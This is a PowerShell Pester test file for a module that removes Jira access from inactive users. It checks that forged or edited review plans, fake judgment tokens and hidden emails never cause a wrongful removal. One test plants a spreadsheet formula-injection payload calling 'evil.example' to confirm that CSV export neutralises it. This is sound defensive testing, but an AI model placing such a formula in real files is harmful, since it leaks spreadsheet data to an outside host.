# Issue 21: a judgment nobody can forge. Each test performs an attack (or a careless edit) on the input and checks
# the emulator's state afterwards: the user still holds the groups.
BeforeAll {
    . (Join-Path $PSScriptRoot 'Common.ps1')
    $today = [datetime]::UtcNow.Date
    $emu = Start-JiraEmulator -Users 300 -Seed 7 -ArgumentList '--as-of', $today.ToString('yyyy-MM-dd')
    $asOf = [datetime]::UtcNow
    $adminGroups = 'site-admins', 'administrators', 'jira-administrators', 'jira-admins', 'org-admins'
    $grantsSoftware = 'jira-software-users', 'jira-developers', 'jira-testers'

    function Get-Member([string] $AccountId) { @((Get-JiraEmulatorState $emu).groups | Where-Object { $_.members -contains $AccountId } | ForEach-Object name | Sort-Object) }
    function Reset-Emulator {
        Invoke-RestMethod -Method Post "$($emu.controlUrl)/reset" | Out-Null
        Set-JiraEmulatorConfig $emu @{ lastActiveJiraKey = 'jira-software' } | Out-Null
        Connect-TestEmulator $emu
    }
    function Connect-WithoutAdminApi {
        $credential = [pscredential]::new($emu.email, (ConvertTo-SecureString $emu.apiToken -AsPlainText -Force))
        Connect-JiraAdmin -Site $emu.siteUrl -Credential $credential
    }
    # Users inactive in Jira Software who used it once: the last look finds their dated entry (a holder who never
    # used it but used another product cannot be judged, see 'The last look cannot be argued with').
    function Get-PlainInactive([int] $Count, [string] $Product = 'JiraSoftware') {
        $export = Save-EmulatorExport $emu
        $state = Get-JiraEmulatorState $emu
        Get-InactiveJiraUser -Path $export -Product $Product -MoreThan 90 | Where-Object LastActive | Sort-Object AccountId |
            Where-Object { $id = $_.AccountId; -not ($state.groups | Where-Object { $_.members -contains $id -and ($_.name -in $adminGroups -or $_.name -like 'jira-admins-*') }) -and $_.OrgRole -notmatch 'admin' } |
            Select-Object -First $Count
    }
    function Set-Active([string] $AccountId, [datetime] $Day = $today, [string] $Product = 'jira-software') {
        $body = @{ accountId = $AccountId; product = $Product; date = $Day.ToString('yyyy-MM-dd') } | ConvertTo-Json
        Invoke-RestMethod -Method Post "$($emu.controlUrl)/activity" -Body $body -ContentType 'application/json' | Out-Null
    }
    function Update-EmulatorState([scriptblock] $Change) {
        $state = Get-JiraEmulatorState $emu
        & $Change $state
        Invoke-RestMethod -Method Put "$($emu.controlUrl)/state" -Body ($state | ConvertTo-Json -Depth 20) -ContentType 'application/json' | Out-Null
    }
    function Get-Suspended { (Get-JiraEmulatorState $emu).users | Where-Object suspended | ForEach-Object accountId | Sort-Object }
}
AfterAll {
    Disconnect-JiraAdmin
    Stop-JiraEmulator $emu
}

Describe 'A plan row can be deleted in review, never changed or added' {
    BeforeEach { Reset-Emulator }

    It 'refuses a row copied onto an active user, and re-judges an edited MoreThan with the sealed period' {
        $users = @(Get-PlainInactive 4)
        $planFile = Join-Path $TestDrive 'plan.csv'
        $users[0..2] | Remove-JiraProductAccess -PlanOnly 6>$null | Export-Csv $planFile
        $rows = @(Import-Csv $planFile)
        $rows.Action | Sort-Object -Unique | Should -Be 'Remove'
        # The attack: a copy of a Remove row for a user active 10 days ago, and MoreThan 1 on a genuine row whose user worked since.
        $victim = $users[3].AccountId
        Set-Active $victim $today.AddDays(-10)
        Set-Active $rows[1].AccountId $today.AddDays(-10)
        $copy = $rows[0] | Select-Object *
        $copy.AccountId = $victim
        $copy.MoreThan = 1
        $rows[1].MoreThan = 1
        @($rows) + $copy | Export-Csv $planFile
        $victimBefore = Get-Member $victim
        $editedBefore = Get-Member $rows[1].AccountId

        $results = Import-Csv $planFile | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'copied.jsonl') -ErrorVariable refused -ErrorAction SilentlyContinue 6>$null

        @($refused | Where-Object { $_.FullyQualifiedErrorId -like 'JudgmentMismatch,*' -and $_.TargetObject -eq $victim }).Count | Should -Be 1
        Get-Member $victim | Should -Be $victimBefore
        ($results | Where-Object AccountId -eq $rows[1].AccountId).Message | Should -Match 'active since the data was read .*within 90 days'
        Get-Member $rows[1].AccountId | Should -Be $editedBefore
        ($results | Where-Object AccountId -in $rows[0].AccountId, $rows[2].AccountId).Status | Sort-Object -Unique | Should -Be 'Removed'
    }

    It 'never removes a row whose sealed action is not Remove, whatever its Action columns say, nor a Remove row whose Action is blanked' {
        $users = @(Get-PlainInactive 4)
        $planFile = Join-Path $TestDrive 'actions.csv'
        # Skip rows: the plan was made with these users excluded.
        $users | Remove-JiraProductAccess -PlanOnly -Exclude $users[0].AccountId, $users[1].AccountId, $users[2].AccountId 6>$null | Export-Csv $planFile
        $rows = @(Import-Csv $planFile)
        ($rows | Where-Object AccountId -in $users[0..2].AccountId).Action | Sort-Object -Unique | Should -Be 'Skip'
        ($rows | Where-Object AccountId -eq $users[3].AccountId).Action | Should -Be 'Remove'
        $rows[0].Action = 'Remove'
        $rows[1].Action = ''
        $rows[3].Action = ''
        $withColumn = $rows | Select-Object *, @{ n = 'PlannedAction'; e = { if ($_.AccountId -eq $users[2].AccountId) { 'Remove' } else { $_.Action } } }
        $withColumn | Export-Csv $planFile
        $before = Get-EmulatorMembership $emu

        $results = Import-Csv $planFile | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'actions.jsonl') 6>$null

        Get-EmulatorMembership $emu | Should -Be $before
        $results.Status | Sort-Object -Unique | Should -Be 'Skipped'
        ($results | Where-Object AccountId -in $users[0..2].AccountId).Message | ForEach-Object { $_ | Should -Match "the sealed plan says 'Skip'" }
        ($results | Where-Object AccountId -eq $users[3].AccountId).Message | Should -Match 'Action is blank'
    }

    It 'keeps -Exclude by email working when a reviewer blanks the Email column of a user whose email Jira hides' {
        $hidden = (Get-JiraEmulatorState $emu).users | Where-Object { -not $_.emailVisible -and $_.email } | ForEach-Object accountId
        $user = Get-PlainInactive 300 | Where-Object { $_.AccountId -in $hidden -and $_.Email } | Select-Object -First 1
        $user | Should -Not -BeNullOrEmpty -Because 'the emulator has inactive users whose email Jira hides'
        $planFile = Join-Path $TestDrive 'email.csv'
        $user | Remove-JiraProductAccess -PlanOnly 6>$null | Select-Object * | ForEach-Object { $_.Email = ''; $_ } | Export-Csv $planFile
        $before = Get-Member $user.AccountId

        $result = Import-Csv $planFile | Remove-JiraProductAccess -Exclude $user.Email -Confirm:$false -JournalPath (Join-Path $TestDrive 'email.jsonl') 6>$null

        $result.Status | Should -Be 'Skipped'
        $result.Message | Should -Match 'excluded by -Exclude'
        Get-Member $user.AccountId | Should -Be $before
    }

    It 'carries the judgment through Export-Csv, Import-Csv and JSON unchanged, so the review loop still removes' {
        $users = @(Get-PlainInactive 4)
        $csv = Join-Path $TestDrive 'judged.csv'
        $users[0..1] | Export-Csv $csv
        $fromCsv = Import-Csv $csv | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'csv.jsonl') 6>$null
        $fromJson = $users[2..3] | ConvertTo-Json | ConvertFrom-Json | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'json.jsonl') 6>$null
        @($fromCsv) + @($fromJson) | ForEach-Object { $_.Status | Should -Be 'Removed' }
        foreach ($user in $users) { Get-Member $user.AccountId | Where-Object { $_ -in $grantsSoftware } | Should -BeNullOrEmpty }
    }
}

Describe 'Only a judgment the module sealed counts' {
    BeforeEach { Reset-Emulator }

    It 'refuses objects that only claim a judgment (MoreThan, AsOf, a made-up or transplanted Judgment), without the Admin API' {
        $users = @(Get-PlainInactive 2)
        $victim = $users[0].AccountId
        Set-Active $victim
        $export = Save-EmulatorExport $emu
        Connect-WithoutAdminApi
        $before = Get-EmulatorMembership $emu
        $claims = @(
            [pscustomobject]@{ AccountId = $victim; Product = 'JiraSoftware'; MoreThan = 90; AsOf = (Get-Date) }
            Import-CsvExport $export | Where-Object AccountId -eq $victim | Select-Object *, @{ n = 'MoreThan'; e = { 1 } }
            [pscustomobject]@{ AccountId = $victim; Product = 'JiraSoftware'; Judgment = 'v1.eyJhY2NvdW50SWQiOiJ4In0.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' }
            [pscustomobject]@{ AccountId = $victim; Product = 'JiraSoftware'; Judgment = $users[1].Judgment }
        )

        $results = $claims | Remove-JiraProductAccess -Product JiraSoftware -Confirm:$false -MaxUsers 1000 -JournalPath (Join-Path $TestDrive 'claims.jsonl') -ErrorVariable refused -ErrorAction SilentlyContinue 3>$null 6>$null

        $results | Should -BeNullOrEmpty
        @($refused.FullyQualifiedErrorId -replace ',.*') | Should -Be 'InputNotJudged', 'InputNotJudged', 'InputNotJudged', 'JudgmentMismatch'
        $refused[0].Exception.Message | Should -Match 'A MoreThan column is not a judgment'
        $refused[2].Exception.Message | Should -Match 'seal does not match|not a sealed judgment'
        Get-EmulatorMembership $emu | Should -Be $before
    }

    It 'refuses a judgment about another product than the change, without the Admin API' {
        $export = Save-EmulatorExport $emu
        Connect-WithoutAdminApi
        $before = Get-EmulatorMembership $emu
        $judged = @(Get-InactiveJiraUser -Path $export -Product JiraSoftware -MoreThan 90)
        $judged.Count | Should -BeGreaterThan 10

        $results = $judged | Remove-JiraProductAccess -Product JiraServiceManagement -Confirm:$false -MaxUsers 1000 -ErrorVariable refused -ErrorAction SilentlyContinue 3>$null 6>$null

        $results | Should -BeNullOrEmpty
        $refused.Count | Should -Be $judged.Count
        $refused.FullyQualifiedErrorId -replace ',.*' | Sort-Object -Unique | Should -Be 'JudgmentMismatch'
        $refused[0].Exception.Message | Should -Match 'about JiraSoftware, not JiraServiceManagement'
        Get-EmulatorMembership $emu | Should -Be $before
    }
}

Describe 'Time only moves forward' {
    BeforeEach { Reset-Emulator }

    It 'refuses -AsOf later than now plus the 24-hour data delay, and judges nobody' {
        $export = Save-EmulatorExport $emu
        $thrown = { Get-InactiveJiraUser -Path $export -Product JiraSoftware -MoreThan 90 -AsOf (Get-Date).AddDays(400) } | Should -Throw -ErrorId 'AsOfInFuture,JiraDeactivate.Commands.GetInactiveJiraUserCommand' -PassThru
        $thrown.CategoryInfo.Category | Should -Be 'InvalidArgument'
        @(Get-InactiveJiraUser -Path $export -Product JiraSoftware -MoreThan 90 -AsOf ([datetime]::UtcNow.AddHours(23))).Count | Should -BeGreaterThan 0
    }

    It 'gives the data''s age in the No last look warning, also for data an hour old or less' {
        $users = @(Get-PlainInactive 2)
        Connect-WithoutAdminApi
        $before = Get-EmulatorMembership $emu
        $users | Remove-JiraProductAccess -WhatIf -WarningVariable warnings 3>$null 6>$null
        $warning = @($warnings | Where-Object { "$_" -match 'No last look' })
        $warning.Count | Should -Be 1
        "$($warning[0])" | Should -Match 'as of \d{4}-\d\d-\d\d \d\d:\d\d UTC \(\d+ (minutes|hours|days) old\)'
        Get-EmulatorMembership $emu | Should -Be $before
    }
}

Describe 'The last look cannot be argued with' {
    BeforeEach { Reset-Emulator }

    It 'cannot judge a user whose last-active entry has a key it cannot name, and reads Jira named "jira"' {
        $users = @(Get-PlainInactive 2)
        Set-Active $users[0].AccountId
        Set-JiraEmulatorConfig $emu @{ lastActiveJiraKey = 'jira-next' } | Out-Null
        $before = Get-EmulatorMembership $emu
        $output = @($users | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'unnamed.jsonl') 6>&1)
        $unnamed = @($output | Where-Object { $_ -isnot [System.Management.Automation.InformationRecord] })
        "$($output | Where-Object { $_ -is [System.Management.Automation.InformationRecord] })" | Should -Match 'skipped 2 \(cannot judge: 2\)' -Because 'the summary names why, not "other"'
        $unnamed.Status | Sort-Object -Unique | Should -Be 'Skipped'
        $unnamed.Message | ForEach-Object { $_ | Should -Match "cannot judge the user .*'jira-next'" }
        Get-EmulatorMembership $emu | Should -Be $before

        Set-JiraEmulatorConfig $emu @{ lastActiveJiraKey = 'jira' } | Out-Null
        $named = $users | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'named.jsonl') 6>$null
        ($named | Where-Object AccountId -eq $users[0].AccountId).Message | Should -Match "active since the data was read \(last active $($today.ToString('yyyy-MM-dd'))"
        Get-Member $users[0].AccountId | Where-Object { $_ -in $grantsSoftware } | Should -Not -BeNullOrEmpty
        ($named | Where-Object AccountId -eq $users[1].AccountId).Status | Should -Be 'Removed'
    }

    It 'takes the last look right before each change, not when planning' {
        $users = @(Get-PlainInactive 2)
        $journal = Join-Path $TestDrive 'timing.jsonl'
        $results = $users | Remove-JiraProductAccess -Confirm:$false -JournalPath $journal 6>$null
        $results.Status | Sort-Object -Unique | Should -Be 'Removed'
        $lines = Get-Content $journal | ConvertFrom-Json
        ($lines | Where-Object event -eq 'Planned').message | ForEach-Object { $_ | Should -Match 'the last look comes right before the change' }
        foreach ($user in $users) {
            ($lines | Where-Object { $_.accountId -eq $user.AccountId -and $_.event -eq 'Removing' } | Select-Object -First 1).message | Should -Match '^last look \d{4}-\d\d-\d\d: '
        }
    }

    It 'does not suspend a user invited today, even with -Force' {
        $state = Get-JiraEmulatorState $emu
        $protectedMembers = $state.groups | Where-Object name -in $adminGroups | ForEach-Object members
        $invitee = $state.users | Where-Object {
            $_.accountType -eq 'atlassian' -and -not $_.suspended -and -not $_.orgAdmin -and $_.addedToOrg -and $_.accountStatus -eq 'active' -and
            ([datetime]$_.addedToOrg) -ge $today.AddDays(-30) -and @($_.lastActive.PSObject.Properties).Count -eq 0 -and $_.accountId -notin $protectedMembers
        } | Select-Object -First 1
        $invitee | Should -Not -BeNullOrEmpty -Because 'the emulator invites users within the last 30 days who never used a product'
        $result = Suspend-JiraUser -AccountId $invitee.accountId -MoreThan 90 -Force -Confirm:$false -JournalPath (Join-Path $TestDrive 'invitee.jsonl') 6>$null
        $result.Status | Should -Be 'Skipped'
        $result.Message | Should -Match 'join-date grace'
        $invitee.accountId | Should -Not -BeIn (Get-Suspended)
    }

    It 'lets -Force override activity in other products only, never in the judged one' {
        $user = Get-PlainInactive 1
        Set-Active $user.AccountId
        $result = $user | Suspend-JiraUser -Force -Confirm:$false -JournalPath (Join-Path $TestDrive 'forced.jsonl') 6>$null
        $result.Status | Should -Be 'Skipped'
        $result.Message | Should -Match 'active in JiraSoftware, the judged product, today'
        $user.AccountId | Should -Not -BeIn (Get-Suspended)
    }
}

Describe 'A protection that cannot be checked skips the user' {
    BeforeEach { Reset-Emulator }

    It 'keeps the access of external users whose email is hidden with -Exclude *@contractor.example on the API path' {
        # Two inactive users become contractors who hide their email: Jira and the Admin API (an unmanaged account) give none.
        $hide = @(Get-PlainInactive 2).AccountId
        Update-EmulatorState {
            param($s)
            $s.users | Where-Object accountId -in $hide | ForEach-Object { $_.email = "hidden.$($_.accountId.Substring(0, 6))@contractor.example"; $_.managed = $false; $_.emailVisible = $false }
        }
        $state = Get-JiraEmulatorState $emu
        $external = @($state.users | Where-Object { $_.email -like '*@contractor.example' } | ForEach-Object accountId)
        $judged = @(Get-InactiveJiraUser -Product JiraSoftware -MoreThan 90)
        $hiddenExternal = @($judged | Where-Object { $_.AccountId -in $external -and -not $_.Email })
        $hiddenExternal.Count | Should -BeGreaterThan 0 -Because 'some inactive contractors hide their email from Jira and the Admin API'
        $before = @{}
        foreach ($id in $external) { $before[$id] = Get-Member $id }

        $results = $judged | Remove-JiraProductAccess -Exclude '*@contractor.example' -Confirm:$false -MaxUsers 1000 -JournalPath (Join-Path $TestDrive 'contractors.jsonl') 6>$null

        foreach ($id in $external) { Get-Member $id | Should -Be $before[$id] -Because "$id is a contractor" }
        ($results | Where-Object AccountId -in $hiddenExternal.AccountId).Message | ForEach-Object { $_ | Should -Match 'exclusion cannot be checked|excluded by -Exclude' }
        @($results | Where-Object Status -eq 'Removed').Count | Should -BeGreaterThan 0
    }

    It 'never removes an organization admin outside the admin groups without the Admin API' {
        $state = Get-JiraEmulatorState $emu
        $protectedMembers = $state.groups | Where-Object name -in $adminGroups | ForEach-Object members
        $orgAdmin = $state.users | Where-Object { $_.orgAdmin -and $_.email -ne $emu.email -and $_.accountId -notin $protectedMembers -and $_.accountType -ne 'app' -and -not $_.suspended } | Select-Object -First 1
        $orgAdmin | Should -Not -BeNullOrEmpty
        Update-EmulatorState {
            param($s)
            ($s.users | Where-Object accountId -eq $orgAdmin.accountId).lastActive = [pscustomobject]@{ 'jira-software' = $today.AddDays(-400).ToString('yyyy-MM-dd') }
            $group = $s.groups | Where-Object name -eq 'jira-software-users'
            if ($group.members -notcontains $orgAdmin.accountId) { $group.members = @($group.members) + $orgAdmin.accountId }
        }
        # From the export, with its Org role column blanked after judging; and from the API path, which carries no org role.
        $csv = Join-Path $TestDrive 'judged.csv'
        Get-InactiveJiraUser -Path (Save-EmulatorExport $emu) -Product JiraSoftware -MoreThan 90 | Where-Object AccountId -eq $orgAdmin.accountId |
            Select-Object * | ForEach-Object { $_.OrgRole = ''; $_ } | Export-Csv $csv
        $fromApi = Get-InactiveJiraUser -Product JiraSoftware -MoreThan 90 | Where-Object AccountId -eq $orgAdmin.accountId
        $fromApi | Should -Not -BeNullOrEmpty
        Connect-WithoutAdminApi
        $before = Get-Member $orgAdmin.accountId

        $blanked = Import-Csv $csv | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'orgadmin-csv.jsonl') 3>$null 6>$null
        $unchecked = $fromApi | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'orgadmin-api.jsonl') 3>$null 6>$null

        $blanked.Status | Should -Be 'Skipped'
        $blanked.Message | Should -Match "organization role 'Organization admin'"
        $unchecked.Status | Should -Be 'Skipped'
        $unchecked.Message | Should -Match 'organization admin cannot be checked'
        Get-Member $orgAdmin.accountId | Should -Be $before
    }
}

Describe 'Plans that reviewers open in a spreadsheet' {
    BeforeEach { Reset-Emulator }

    It 'writes a display name that looks like a formula as text, and the plan still removes' {
        $user = Get-PlainInactive 1
        $formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
        Update-EmulatorState { param($s) ($s.users | Where-Object accountId -eq $user.AccountId).displayName = $formula }
        $planFile = Join-Path $TestDrive 'formula.csv'
        $before = Get-EmulatorMembership $emu

        $user | Remove-JiraProductAccess -PlanOnly 6>$null | Export-Csv $planFile

        Get-EmulatorMembership $emu | Should -Be $before
        $text = Get-Content $planFile -Raw
        $quoted = $formula.Replace('"', '""')
        $text | Should -Not -Match ([regex]::Escape('"' + $quoted))
        $text | Should -Match ([regex]::Escape('"''' + $quoted))
        (Import-Csv $planFile | Remove-JiraProductAccess -Confirm:$false -JournalPath (Join-Path $TestDrive 'formula.jsonl') 6>$null).Status | Should -Be 'Removed'
    }
}
